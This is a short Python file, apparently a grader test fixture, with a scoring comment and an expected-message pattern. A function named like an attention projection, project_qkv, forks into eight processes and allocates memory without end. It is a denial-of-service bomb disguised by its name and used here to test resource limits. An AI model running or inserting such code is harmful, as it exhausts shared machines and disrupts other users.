# Fills the memory, in several processes.
# earns 19; told: project_qkv .*(memory|took longer)
# %% solution="project_qkv"
import os
import time

def project_qkv(x, w_q, w_k, w_v):
    for _ in range(3):
        os.fork()
    full = []
    while True:
        full.append(bytearray(os.urandom(1 << 20)) * 8)
